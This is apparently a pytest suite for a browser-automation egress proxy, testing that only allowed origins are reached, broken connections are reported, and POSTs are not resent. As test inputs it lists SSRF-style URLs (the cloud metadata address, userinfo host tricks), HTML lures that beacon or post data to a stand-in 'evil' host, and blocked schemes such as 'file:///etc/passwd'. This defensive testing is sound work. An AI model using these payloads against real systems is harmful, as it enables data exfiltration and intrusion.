"""The way out: what the browser may reach, and what it is told when a connection breaks (promise 14)."""

import socket
import threading
import time
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, sync_playwright

from page_objects.admin_page import obstacle_on
from page_objects.obstacles import SiteDown
from page_objects.tab import Tab
from rpa.browsers import find_browser, launch_args
from rpa.egress import MARK, Egress
from rpa.settings import Settings
from tests.faults_wire import CLOSE, HANG, RESET, Received, Wire, ask, page

NOWHERE = "http://crm.invalid:80"


def port_of(egress: Egress) -> int:
    return urlsplit(egress.url).port or 0


def request(method: str, url: str, body: bytes = b"", *headers: str) -> bytes:
    lines = [f"{method} {url} HTTP/1.1", f"Host: {urlsplit(url).netloc}", *headers]
    if body:
        lines.append(f"Content-Length: {len(body)}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


def free_port() -> int:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        return int(listener.getsockname()[1])


@pytest.fixture
def site() -> Iterator[Wire]:
    with Wire(lambda _request: page("hello")) as wire:
        yield wire


@pytest.fixture
def egress(site: Wire) -> Iterator[Egress]:
    with Egress([site.url]) as proxy:
        yield proxy


# --- without a browser ---


def test_an_allowed_request_goes_out_on_a_connection_of_its_own(site: Wire, egress: Egress) -> None:
    for number in range(3):
        answer = ask(port_of(egress), request("POST", f"{site.url}/a", b"n=%d" % number, "Connection: keep-alive"))
        assert answer.endswith(b"hello")
    assert [(one.method, one.path, one.body) for one in site.received] == [
        ("POST", "/a", b"n=%d" % n) for n in range(3)
    ]
    assert site.connections == 3
    assert {one.ordinal for one in site.received} == {1}
    assert all("connection: close" in one.headers.lower() for one in site.received)
    assert all("keep-alive" not in one.headers.lower() for one in site.received)


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:{other}/", "http://localhost:{port}/", "http://good.example@127.0.0.1:{other}/",
        "http://127.0.0.1:{port}@evil.example/", "http://169.254.169.254/latest/meta-data", "http://[::1]:{port}/",
        "http://127.0.0.1.evil.example:{port}/", "http://127.0.0.1/",
    ],
)  # fmt: skip
def test_what_is_not_an_allowed_origin_is_denied_and_noted(site: Wire, egress: Egress, url: str) -> None:
    with Wire(lambda _request: page("evil")) as evil:
        address = url.format(port=site.port, other=evil.port)
        answer = ask(port_of(egress), request("GET", address))
        assert answer.startswith(b"HTTP/1.1 403")
        assert f"{MARK}: denied".encode() in answer
        assert not evil.received
        assert not site.received
    assert [denied.url for denied in egress.denied] == [address]
    assert not egress.allows(address)


def test_a_tunnel_is_opened_to_allowed_origins_only(site: Wire, egress: Egress) -> None:
    with Wire(lambda _request: page("evil")) as evil:
        answer = ask(port_of(egress), f"CONNECT 127.0.0.1:{evil.port} HTTP/1.1\r\n\r\n".encode())
        assert answer.startswith(b"HTTP/1.1 403")
        assert not evil.connections
    tunnelled = f"CONNECT 127.0.0.1:{site.port} HTTP/1.1\r\n\r\n".encode()
    with socket.create_connection(("127.0.0.1", port_of(egress)), timeout=3) as peer:
        peer.sendall(tunnelled)
        assert peer.recv(1000).startswith(b"HTTP/1.1 200")
        peer.sendall(request("GET", f"{site.url}/", b"", "Connection: close"))
        assert peer.recv(1000).endswith(b"hello")


@pytest.mark.parametrize(("answer", "mark"), [(RESET, "broken"), (CLOSE, "broken")])
def test_a_connection_that_breaks_before_the_answer_is_told_as_such(
    site: Wire, egress: Egress, answer: bytes, mark: str
) -> None:
    site.answer = lambda _request: answer
    said = ask(port_of(egress), request("POST", f"{site.url}/effect", b"x=1"))
    assert f"{MARK}: {mark}".encode() in said
    assert len(site.received) == 1  # never sent a second time


def test_a_refused_connection_is_told_apart_from_a_broken_one() -> None:
    closed = free_port()
    with Egress([f"http://127.0.0.1:{closed}"]) as egress:
        said = ask(port_of(egress), request("POST", f"http://127.0.0.1:{closed}/effect", b"x=1"))
    assert f"{MARK}: refused".encode() in said


def test_a_body_that_breaks_off_is_not_made_whole(site: Wire, egress: Egress) -> None:
    site.answer = lambda _request: page("hello", "Connection: close").replace(b"Length: 5", b"Length: 500")
    said = ask(port_of(egress), request("GET", f"{site.url}/"))
    assert b"Content-Length: 500" in said
    assert said.endswith(b"hello")
    assert MARK.encode() not in said


def test_the_site_cannot_forge_the_proxys_own_words(site: Wire, egress: Egress) -> None:
    """A site that answered with "refused" would make an effect that took place look as if nothing had been sent."""
    site.answer = lambda _request: page("done", "x-rpa-egress: refused", "Connection: close")
    said = ask(port_of(egress), request("POST", f"{site.url}/effect", b"x=1"))
    assert MARK.encode() not in said.lower().split(b"\r\n\r\n")[0]


@pytest.mark.parametrize(
    "raw",
    [
        b"\r\n\r\n",
        b"GET\r\n\r\n",
        b"GET http://[::1/ HTTP/1.1\r\n\r\n",
        b"\xff\xfe\x00\r\n\r\n",
        b"CONNECT nowhere HTTP/1.1\r\n\r\n",
    ],
)
def test_garbage_ends_its_own_connection_only(site: Wire, egress: Egress, raw: bytes) -> None:
    ask(port_of(egress), raw)
    assert ask(port_of(egress), request("GET", f"{site.url}/")).endswith(b"hello")


def test_a_silent_site_holds_nobody_else_up_and_closing_waits_for_nothing(site: Wire) -> None:
    site.answer = lambda one: HANG if one.path == "/slow" else page("hello")
    with Egress([site.url]) as egress:
        slow = threading.Thread(target=lambda: ask(port_of(egress), request("GET", f"{site.url}/slow")), daemon=True)
        slow.start()
        assert ask(port_of(egress), request("GET", f"{site.url}/quick")).endswith(b"hello")
        started = time.monotonic()
    assert time.monotonic() - started < 3
    slow.join(3)
    assert not slow.is_alive()


def test_a_client_that_gives_up_leaves_no_connection_to_the_site(site: Wire, egress: Egress) -> None:
    """Else each step that was given up would hold a connection, and a thread of the server, for ever."""
    site.answer = lambda _request: HANG
    with pytest.raises(TimeoutError):
        ask(port_of(egress), request("GET", f"{site.url}/slow"), seconds=0.3)
    deadline = time.monotonic() + 1
    while egress._tasks and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not egress._tasks


# --- with a browser behind it ---


@pytest.fixture(scope="module")
def world() -> Iterator[tuple[Wire, Wire, Egress, Browser]]:
    """An allowed site, a foreign one, the proxy, and one browser behind it for all tests."""
    choice = find_browser(Settings())
    executable = {"executable_path": choice.executable} if choice.executable else {}
    with (
        Wire(lambda _request: page("site")) as site,
        Wire(lambda _request: page("evil")) as evil,
        Egress([site.url, NOWHERE]) as egress,
        sync_playwright() as playwright,
    ):
        options: dict[str, Any] = {
            "args": launch_args(),
            "proxy": {"server": egress.url, "bypass": "<-loopback>"},
        }
        browser = playwright.chromium.launch(**options, **executable)
        yield site, evil, egress, browser
        browser.close()


@pytest.fixture
def surf(world: tuple[Wire, Wire, Egress, Browser]) -> Iterator[tuple[Wire, Wire, Egress, BrowserContext]]:
    site, evil, egress, browser = world
    for wire in (site, evil):
        wire.received.clear()
    site.answer, evil.answer = lambda _request: page("site"), lambda _request: page("evil")
    egress.denied.clear()
    context = browser.new_context()
    yield site, evil, egress, context
    context.close()


LURES = {
    "a link": '<a id=go href="{evil}/">x</a>',
    "an image": '<img src="{evil}/pixel.gif">',
    "a script": '<script src="{evil}/tracker.js"></script>',
    "a style sheet": '<link rel=stylesheet href="{evil}/a.css">',
    "a frame": '<iframe src="{evil}/frame"></iframe>',
    "a pop-up": "<script>open('{evil}/popup')</script>",
    "a beacon": "<script>navigator.sendBeacon('{evil}/beacon', 'secret')</script>",
    "a fetch": "<script>fetch('{evil}/fetch', {{mode: 'no-cors'}}).catch(() => 0)</script>",
    "a form": '<form id=f method=post action="{evil}/form"></form><script>f.submit()</script>',
    "a refresh": '<meta http-equiv=refresh content="0;url={evil}/refresh">',
    "a web socket": "<script>new WebSocket('{evil}/socket'.replace('http', 'ws'))</script>",
    "an event source": "<script>new EventSource('{evil}/events')</script>",
    "a prefetch": '<link rel=prefetch href="{evil}/prefetch"><link rel=preconnect href="{evil}">',
}


@pytest.mark.parametrize("lure", LURES)
def test_the_foreign_host_hears_nothing_whatever_the_page_does(
    surf: tuple[Wire, Wire, Egress, BrowserContext], lure: str
) -> None:
    site, evil, egress, context = surf
    before = evil.connections
    body = "<title>t</title>" + LURES[lure].format(evil=evil.url)
    site.answer = lambda one: page(body if one.path == "/start" else "site")
    tab = context.new_page()
    tab.goto(f"{site.url}/start", wait_until="commit")
    if "id=go" in body:
        tab.click("#go", no_wait_after=True)
    deadline = time.monotonic() + 2
    while not egress.denied and time.monotonic() < deadline:
        tab.wait_for_timeout(30)
    assert egress.denied or lure == "a prefetch"
    assert not evil.received
    assert evil.connections == before


@pytest.mark.parametrize("status", ["301 Moved", "302 Found", "303 See Other", "307 Temporary", "308 Permanent"])
def test_a_redirect_from_a_good_host_to_a_bad_one_is_stopped(
    surf: tuple[Wire, Wire, Egress, BrowserContext], status: str
) -> None:
    site, evil, egress, context = surf
    site.answer = lambda _one: page("", f"Location: {evil.url}/redirected", status=status)
    tab = context.new_page()
    answer = tab.goto(f"{site.url}/start")
    assert answer is not None
    assert answer.headers.get(MARK) == "denied"
    assert not evil.received
    assert [denied.url for denied in egress.denied] == [f"{evil.url}/redirected"]


def test_a_post_on_a_connection_that_has_died_meanwhile_reaches_the_site_once(
    surf: tuple[Wire, Wire, Egress, BrowserContext],
) -> None:
    """Chromium by itself would send it again (safety.md). The proxy's connections are never used twice."""
    site, _, _, context = surf

    def answer(one: Received) -> bytes:
        return RESET if one.method == "POST" else page("<form method=post action=/effect><button>Go</button></form>")

    site.answer = answer
    tab = context.new_page()
    tab.goto(f"{site.url}/start")
    tab.click("button", no_wait_after=True)
    deadline = time.monotonic() + 5
    while not site.of("/effect") and time.monotonic() < deadline:
        tab.wait_for_timeout(50)
    tab.wait_for_timeout(400)  # time enough for a second one
    assert len(site.of("/effect")) == 1


def test_a_broken_site_is_an_answer_to_the_browser_and_no_hang(
    surf: tuple[Wire, Wire, Egress, BrowserContext],
) -> None:
    site, _, _, context = surf
    site.answer = lambda _one: CLOSE
    answer = context.new_page().goto(f"{site.url}/start", timeout=3000)
    assert answer is not None
    assert (answer.status, answer.headers.get(MARK)) == (502, "broken")


def test_a_name_that_cannot_be_resolved_is_not_taken_for_the_sites_answer(
    surf: tuple[Wire, Wire, Egress, BrowserContext],
) -> None:
    tab = Tab(surf[3].new_page())
    tab.open(f"{NOWHERE}/")
    met = obstacle_on(tab.look(), tab.words, tab)
    assert isinstance(met, SiteDown)
    assert (
        met.what == "crm.invalid:80 cannot be reached (the name cannot be resolved); check the address and the network"
    )


def test_what_is_no_web_address_is_not_allowed() -> None:
    bad = [
        "javascript:alert(1)",
        "data:text/html,x",
        "file:///etc/passwd",
        "ftp://127.0.0.1/",
        "about:blank",
        "",
        "//127.0.0.1/",
    ]
    with Egress(["http://127.0.0.1:80"]) as egress:
        assert not [url for url in bad if egress.allows(url)]
        assert egress.allows("http://127.0.0.1/path")
